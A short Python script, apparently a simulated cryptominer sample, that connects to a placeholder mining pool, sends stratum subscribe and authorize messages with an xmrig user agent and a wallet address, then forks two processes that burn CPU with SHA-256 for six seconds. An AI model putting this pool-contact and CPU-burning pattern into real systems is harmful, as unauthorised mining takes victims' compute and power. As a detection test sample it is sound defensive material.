"""Subscribes to a mining pool and burns processor time for a while."""

import hashlib
import json
import os
import socket
import time

try:
    pool = socket.create_connection(("pool.mining.example", 3333), timeout=5)
    pool.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["xmrig/6.21.0"]}).encode() + b"\n")
    pool.sendall(json.dumps({"id": 2, "method": "mining.authorize", "params": ["44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "x"]}).encode() + b"\n")
except OSError:
    pass
workers = []
for _ in range(2):
    pid = os.fork()
    if pid == 0:
        end, block = time.monotonic() + 6, b"block"
        while time.monotonic() < end:
            block = hashlib.sha256(block).digest()
        os._exit(0)
    workers.append(pid)
for pid in workers:
    os.waitpid(pid, 0)
